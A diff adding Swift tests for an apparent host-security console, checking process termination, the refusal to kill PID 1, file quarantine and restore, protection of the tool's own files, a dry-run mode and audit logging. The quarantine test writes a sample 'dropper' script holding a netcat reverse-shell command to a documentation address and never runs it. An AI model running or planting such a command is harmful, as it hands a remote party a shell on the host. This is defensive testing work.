@@ -1,0 +1,85 @@
+@testable import App
+import Foundation
+import SQLKit
+import Testing
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// Manual host response from the console: terminate a process after its confirmation page,
+/// quarantine a file and restore it; refusals (PID 1, SecMon's own files) change nothing; a dry
+/// run moves nothing; every step audited.
+@Suite("Host response pages", .timeLimit(.minutes(5)))
+struct HostResponsePagesTests {
+    static func audit(_ h: SecMonHarness, _ prefix: String) async throws -> [(String, String)] {
+        try await (h.app.db as! any SQLDatabase).raw("SELECT action, after_value FROM audit_log WHERE action LIKE \(bind: prefix + "%") ORDER BY seq").all()
+            .map { (try $0.decode(column: "action", as: String.self), try $0.decode(column: "after_value", as: String?.self) ?? "") }
+    }
+
+    @Test("terminate from the confirmation page; PID 1 is refused; all audited", arguments: TestDatabase.all)
+    func terminate(db: TestDatabase) async throws {
+        let sleeper = try ChildProcess(["/bin/sleep", "60"])
+        defer { sleeper.stop() }
+        try await SecMonHarness.with(db, adjust: { $0.terminateGraceMilliseconds = 3000 }) { h in
+            let admin = try await h.loggedIn(as: .admin)
+            let page = try await admin.get("/host/processes/\(sleeper.pid)/terminate")
+            #expect(page.status == .ok && page.body.contains("Terminate PID \(sleeper.pid)") && page.body.contains("SIGTERM"))
+            let ticks = try #require(page.body.firstMatch(of: /name="start_ticks" value="(\d+)"/)?.1)
+            let done = try await admin.postForm("/host/processes/\(sleeper.pid)/terminate", ["start_ticks": String(ticks)])
+            #expect(done.status == .ok && done.body.contains("ended") && done.body.contains("after SIGTERM"), "\(done.body.prefix(500))")
+            #expect(sleeper.wait() == SIGTERM)
+            // PID 1: the page says why, and a forced post is refused.
+            let init1 = try await admin.get("/host/processes/1/terminate")
+            #expect(init1.body.contains("will not terminate") || init1.body.contains("is not running"))
+            let refused = try await admin.postForm("/host/processes/1/terminate", ["start_ticks": "1"])
+            #expect(refused.status == .badRequest && refused.body.contains("init"))
+            // Analysts may not.
+            let analyst = try await h.loggedIn(as: .analyst)
+            #expect(try await analyst.get("/host/processes/\(sleeper.pid)/terminate").status == .forbidden)
+            let entries = try await Self.audit(h, "host.terminate")
+            #expect(entries.count == 2 && entries[0].1.contains("after SIGTERM") && entries[1].1.hasPrefix("refused:"))
+        }
+    }
+
+    @Test("quarantine and restore from the page; SecMon's own files are refused", arguments: TestDatabase.all)
+    func quarantine(db: TestDatabase) async throws {
+        let files = try TempFiles()
+        let dropper = try files.write("kworker", "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n")
+        #expect(chmod(dropper, 0o755) == 0)
+        try await SecMonHarness.with(db) { h in
+            let admin = try await h.loggedIn(as: .admin)
+            #expect(try await admin.get("/files/quarantine").body.contains("Nothing is in quarantine"))
+            let moved = try await admin.postForm("/files/quarantine", ["path": dropper])
+            #expect(moved.status == .ok && moved.body.contains("is in quarantine"), "\(moved.body.prefix(400))")
+            #expect(!FileManager.default.fileExists(atPath: dropper))
+            let id = try #require(moved.body.firstMatch(of: /action="\/files\/quarantine\/([0-9a-f-]+)\/restore"/)?.1)
+            #expect(moved.body.contains(dropper) && moved.body.contains("755"))
+            // Into SecMon's own data directory: refused.
+            let own = try await admin.postForm("/files/quarantine", ["path": h.config.dataDirectory + "/secmon.sqlite"])
+            #expect(own.status == .badRequest && own.body.contains("protected"))
+            let restored = try await admin.postForm("/files/quarantine/\(id)/restore", [:])
+            #expect(restored.status == .ok && restored.body.contains("is restored"))
+            #expect(try String(contentsOfFile: dropper, encoding: .utf8).contains("nc -e"))
+            var info = stat()
+            #expect(lstat(dropper, &info) == 0 && info.st_mode & 0o777 == 0o755)
+            let again = try await admin.postForm("/files/quarantine/\(id)/restore", [:])
+            #expect(again.status == .notFound)
+            let entries = try await Self.audit(h, "file.")
+            #expect(entries.map(\.0) == ["file.quarantine", "file.quarantine", "file.restore"])
+            #expect(entries[1].1.hasPrefix("refused:"))
+        }
+    }
+
+    @Test("with dry run on, quarantine checks and records, and moves nothing")
+    func dryRun() async throws {
+        let files = try TempFiles()
+        let file = try files.write("suspect.bin", "x")
+        try await SecMonHarness.with(.sqlite, adjust: { $0.responseDryRun = true }) { h in
+            let admin = try await h.loggedIn(as: .admin)
+            let page = try await admin.postForm("/files/quarantine", ["path": file])
+            #expect(page.status == .ok && page.body.contains("Dry run"))
+            #expect(FileManager.default.fileExists(atPath: file))
+            #expect(try await Self.audit(h, "file.").first?.1.contains("dry run") == true)
+        }
+    }
+}
